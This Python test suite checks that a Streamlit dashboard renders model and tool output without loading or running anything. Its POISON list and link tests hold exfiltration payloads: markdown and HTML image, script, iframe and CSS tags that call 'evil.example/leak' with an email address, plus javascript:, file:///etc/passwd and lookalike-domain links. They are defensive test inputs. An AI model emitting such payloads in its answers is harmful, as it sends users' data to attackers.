"""Nothing that models, tools or callers write is read as Markdown of ours: no picture, icon, formula or HTML."""

from __future__ import annotations

import ast
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st_
from parts.foreign import MAX_FORMATTED, as_html
from parts.formatting import code, plain, prose

DASHBOARDS = Path(__file__).resolve().parents[2] / "dashboards"

LEAK = "http://evil.example/leak?email=jo@example.com"
POISON = [
    f"![x]({LEAK})",
    f"![x][r]\n\n[r]: {LEAK}",
    f"![r]\n\n[r]: <{LEAK}> 'title'",
    f"[![x]({LEAK})]({LEAK})",
    f"**a _b ![x]({LEAK}) c_ d**",
    f"> - 1. ![x]({LEAK})",
    f"| a |\n|-|\n| ![x]({LEAK}) |",
    f"# ![x]({LEAK})",
    f"<img src='{LEAK}'>",
    f"<IMG\nSRC={LEAK} onerror=alert(1)>",
    f"<svg><image href='{LEAK}'/></svg>",
    f"<style>@import '{LEAK}'</style>",
    f"<div style='background:url({LEAK})'>x</div>",
    f"<iframe src='{LEAK}'></iframe><video poster='{LEAK}'></video><link rel=stylesheet href='{LEAK}'>",
    f"<script>fetch('{LEAK}')</script>",
    f"<!-- --><base href='{LEAK}'>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](//evil.example/leak)",
    "![x](/media/1.png)",
    f"$\\includegraphics{{{LEAK}}}$ $$\\href{{{LEAK}}}{{x}}$$",
    f"&lt;img src={LEAK}&gt; &#60;img src={LEAK}&#62;",
    f"\\<img src='{LEAK}'\\>",
    f"```\n```\n![x]({LEAK})",
    f"[x]: {LEAK}\n[x]\n![x]",
    f"~~![x]({LEAK})~~",
]
ALLOWED = {
    *("div", "p", "br", "hr", "em", "strong", "s", "code", "pre", "blockquote", "a", "ul", "ol", "li"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}


class Tags(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def check(text: str) -> Tags:
    """The tags of an answer; fails on everything that a browser would load or run."""
    tags = Tags(as_html(text))
    for tag, attributes in tags.found:
        assert tag in ALLOWED, tag
        allowed = {"a": {"href", "target", "rel", "referrerpolicy"}, "ol": {"start"}, "code": {"class"}}.get(tag, set())
        assert attributes.keys() <= allowed | {"class", "style"}, attributes
        if tag == "a":
            assert re.match(r"https?://[^@/]+(/|$|\?|#|:)", attributes["href"] or ""), attributes
        assert re.fullmatch(r"text-align:(left|right|center)|white-space:pre-wrap|", attributes.get("style") or "")
    return tags


@pytest.mark.parametrize("text", POISON)
def test_a_poisoned_answer_loads_nothing_and_still_says_what_it_said(text: str) -> None:
    tags = check(text)
    assert "evil.example" in tags.words or "evil.example" not in text or "[x]: " in text


@given(st_.text(alphabet="![]()<>`*_#|-:/.ahtpsimg \n\\&;\"'=$~", max_size=80))
def test_no_text_makes_a_tag_that_loads(text: str) -> None:
    check(text)


@pytest.mark.parametrize(
    "target",
    [
        *(
            "javascript:alert(1)",
            "JaVaScRiPt:x",
            "data:text/html,x",
            "vbscript:x",
            "file:///etc/passwd",
            "//evil.example",
        ),
        *("/tools?tool=a.b&args={}", "?x", "#x", "http://bank.example@evil.example/", "http:///x", "blob:http://a/b"),
        *("mailto:a@b.example", "ftp://a.example/", "http://[", "&#106;avascript:x", "java\tscript:x"),
    ],
)
def test_what_is_no_plain_address_is_no_link(target: str) -> None:
    assert "<a" not in as_html(f"[x]({target}) <{target}> [y](<{target}>)")


def test_a_link_names_its_true_target() -> None:
    assert "(http://evil.example/x)" in as_html("[http://bank.example](http://evil.example/x)")
    assert "(http://xn--bnk-6cd.example/)" in as_html("[bank](http://b\N{CYRILLIC SMALL LETTER A}nk.example/)")
    assert as_html("<https://docs.example/a>").count("https://docs.example/a") == 2  # it is its own target


@pytest.mark.parametrize(
    "text", ["a\u202eb", "a&#8238;b", "[a\u202eb](http://x.example)", "a\u200bb", "\x1b[31m", "\U000e0041"]
)
def test_what_hides_or_turns_text_is_written_out(text: str) -> None:
    shown = as_html(text)
    assert "⟨U+" in shown
    assert not set("\u202e\u200b\x1b\U000e0041") & set(shown)


def test_ordinary_answers_keep_their_shape() -> None:
    tags = check("# A\n\n**b** and `c`\n\n- d\n\n| e | f |\n|---|--:|\n| 1 | 2 |\n\n```sql\nselect 1\n```\n~~g~~")
    assert {"h1", "strong", "code", "ul", "table", "pre", "s"} <= {tag for tag, _ in tags.found}
    assert "👩‍👩‍👧" in as_html("👩‍👩‍👧 \N{ARABIC LETTER BEH}\N{ZERO WIDTH NON-JOINER}\N{ARABIC LETTER BEH}")


def test_a_long_answer_is_shown_as_it_was_written() -> None:
    tags = check("*a* <b> " * MAX_FORMATTED)
    assert [tag for tag, _ in tags.found] == ["pre"]
    assert tags.words.startswith("*a* <b>")


@pytest.mark.parametrize(
    "text", [*POISON, ":material/home:", ":red[x]", ":red-background[x]", ":smile:", ":shimmer[x]"]
)
@pytest.mark.parametrize("escape", [plain, prose])
def test_inside_a_sentence_it_has_no_meaning(text: str, escape: Any) -> None:
    escaped = escape(text)
    bare = re.sub(r"\\.", "", escaped if escape is plain else re.sub(r"`[^`]*`", "", escaped), flags=re.DOTALL)
    assert not set("`*_{}[]()<>#!~$|&:") & set(bare)
    assert not re.search(r":[\w+]*[A-Za-z][\w+-]*(/\w+)?:", re.sub(r"\\(.)", r"\1", escaped))


def test_code_cannot_be_left() -> None:
    assert code("a` ![x](y) `b") == "`a' ![x](y) 'b`"
    assert code("") == "` `"
    assert code("a\n\n# b") == "`a # b`"


# --- the sources ------------------------------

DRAWS = {
    *("markdown", "caption", "title", "header", "subheader", "text", "write", "html", "latex", "badge", "metric"),
    *("error", "warning", "info", "success", "toast", "status", "expander", "button", "form_submit_button", "toggle"),
    *("checkbox", "download_button", "link_button", "page_link", "text_input", "text_area", "number_input", "popover"),
    *("date_input", "selectbox", "multiselect", "segmented_control", "radio", "pills", "chat_input", "dialog", "tabs"),
    *("spinner", "update", "exception", "image", "video", "audio", "iframe", "Page", "write_stream", "feedback"),
}
"""Calls of Streamlit that read one of their texts as Markdown or HTML, or load something."""
READ = {"label", "body", "title", "help", "text", "delta", "caption", "shown"}
"""Their named arguments that are read so."""
FORBIDDEN = {"write", "exception", "image", "video", "audio", "iframe", "latex", "write_stream", "unsafe_allow_html"}
SAFE = {
    *("plain", "prose", "code", "outcome", "duration", "count", "size", "age", "local", "utc", "since", "zone", "len"),
    *("headline", "footer", "_left", "_so_far", "_label", "_help", "rule", "effect", "as_html", "hover", "escape"),
}
"""What gives text that is safe to draw; each is covered above or made of these."""
OURS = {
    # (file, expression): why it is not foreign
    ("parts/foreign.py", "as_html(text)"): "the renderer itself",
    ("parts/notice.py", "f'{icon} **{title}**'"): "called with texts of ours; see below",
    ("parts/notice.py", "text"): "called with texts of ours; see below",
    ("app.py", "f'Approvals ({count})' if count else 'Approvals'"): "a number",
    (
        "parts/approval.py",
        "f'{plain(waiting.subject)} asks, through {plain(waiting.source)}' + (f' · {rule}' if rule else '')",
    ): "what `rule` gives is escaped there",
    (
        "parts/approval.py",
        "f':material/group: {len(waiting.votes)} of {waiting.approvers} have agreed: {agreed}'",
    ): "a number of the rules",
    ("parts/approval.py", "word"): "Approve or Deny",
    ("parts/calls.py", "label"): "one of three words of ours",
    ("screens/home.py", "list(clients)"): "names of clients, of ours",
    ("screens/home.py", "where"): "where to paste, of ours",
    ("screens/home.py", "title"): "one of three words of ours",
}


def expressions() -> list[tuple[str, ast.expr, ast.AST]]:
    """Every argument that is drawn: its file, the expression, and the function or module that it stands in."""
    found = []
    for file in sorted(DASHBOARDS.rglob("*.py")):
        tree = ast.parse(file.read_text(encoding="utf-8"))
        scopes: dict[ast.AST, ast.AST] = {}
        for scope in ast.walk(tree):
            if isinstance(scope, ast.FunctionDef):
                scopes |= dict.fromkeys(ast.walk(scope), scope)
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call) or _name(node.func) not in DRAWS or _is_not_streamlit(node.func):
                continue
            where = file.relative_to(DASHBOARDS).as_posix()
            assert _name(node.func) not in FORBIDDEN, f"{where}:{node.lineno} calls {ast.unparse(node.func)}"
            drawn = [*node.args[: 2 if _name(node.func) == "metric" else 1]]
            drawn += [k.value for k in node.keywords if k.arg in READ]
            assert not {k.arg for k in node.keywords} & FORBIDDEN, f"{where}:{node.lineno}"
            found += [(where, each, scopes.get(node, tree)) for each in drawn]
    return found


def _name(function: ast.expr) -> str:
    return (
        function.attr if isinstance(function, ast.Attribute) else function.id if isinstance(function, ast.Name) else ""
    )


def _is_not_streamlit(function: ast.expr) -> bool:
    root = function
    while isinstance(root, ast.Attribute | ast.Call):
        root = root.value if isinstance(root, ast.Attribute) else root.func
    # `draw(...)` of result.py and steps.py is one of st.error, st.warning and st.info
    return isinstance(function, ast.Name) or (
        isinstance(root, ast.Name) and root.id in ("workbench", "bench", "record")
    )


def is_safe(node: ast.expr, scope: ast.AST, depth: int = 0) -> bool:
    """Whether an expression is text of ours, or foreign text that went through an escape."""
    if depth > 8:
        return False

    def inner(each: ast.expr) -> bool:
        return is_safe(each, scope, depth + 1)

    match node:
        case ast.Constant():
            return True
        case ast.JoinedStr():
            return all(inner(part) for part in node.values)
        case ast.FormattedValue():
            spec = ast.unparse(node.format_spec)[2:-1] if node.format_spec is not None else ""
            return re.search(r"[,dfge%]$", spec) is not None or inner(node.value)  # anything but a number would raise
        case ast.Call():
            if _name(node.func) in SAFE:
                return True
            if _name(node.func) == "join" and isinstance(node.func, ast.Attribute):
                return inner(node.func.value) and inner(node.args[0])
            if _name(node.func) == "get" and isinstance(node.func, ast.Attribute):
                return inner(node.func.value) and all(inner(each) for each in node.args[1:])
            return _name(node.func) == "format" and all(inner(each) for each in node.args)
        case ast.GeneratorExp() | ast.ListComp():
            return inner(node.elt)
        case ast.List() | ast.Tuple():
            return all(inner(each) for each in node.elts)
        case ast.IfExp():
            return inner(node.body) and inner(node.orelse)
        case ast.BoolOp():
            return all(inner(each) for each in node.values)
        case ast.BinOp():
            return inner(node.left) and inner(node.right)
        case ast.Subscript():
            return inner(node.value)
        case ast.Dict():
            return all(inner(value) for value in node.values)
        case ast.Name() | ast.Attribute() if (node.id if isinstance(node, ast.Name) else node.attr).isupper():
            return True  # a constant of ours
        case ast.Name():
            given = _assigned(node.id, scope)
            return bool(given) and all(inner(each) for each in given)
    return False


def _assigned(name: str, scope: ast.AST) -> list[ast.expr]:
    """All that a name is set to in its function."""
    found: list[ast.expr] = []
    for node in ast.walk(scope):
        if isinstance(node, ast.Assign):
            for target in node.targets:
                names = target.elts if isinstance(target, ast.Tuple) else [target]
                for number, each in enumerate(names):
                    if isinstance(each, ast.Name) and each.id == name:
                        split = isinstance(target, ast.Tuple) and isinstance(node.value, ast.Tuple)
                        found.append(node.value.elts[number] if split else node.value)  # type: ignore[attr-defined]
        elif isinstance(node, ast.AugAssign) and isinstance(node.target, ast.Name) and node.target.id == name:
            found.append(node.value)
    return found


def test_an_empty_place_is_described_in_words_of_ours() -> None:
    for file in DASHBOARDS.rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and ast.unparse(node.func) in ("notice.nothing", "nothing"):
                assert all(isinstance(each, ast.Constant) for each in node.args), f"{file}:{node.lineno}"


@pytest.mark.parametrize(
    "line",
    [
        "st.markdown(answer)",
        "st.error(f'It said {e}')",
        "place.caption(row['a'])",
        "st.button('x', help=tool.description)",
    ],
)
def test_a_new_use_without_an_escape_would_be_seen(line: str) -> None:
    call = ast.parse(line).body[0].value  # type: ignore[attr-defined]
    assert not all(is_safe(each, call) for each in [*call.args, *(k.value for k in call.keywords)])


def test_every_text_that_is_drawn_is_ours_or_escaped() -> None:
    unguarded = [
        f"{where}:{node.lineno}: {ast.unparse(node)}"
        for where, node, scope in expressions()
        if not is_safe(node, scope) and (where, ast.unparse(node)) not in OURS
    ]
    assert not unguarded, "\n".join(["Not escaped; use plain, prose, code or foreign.draw:", *unguarded])
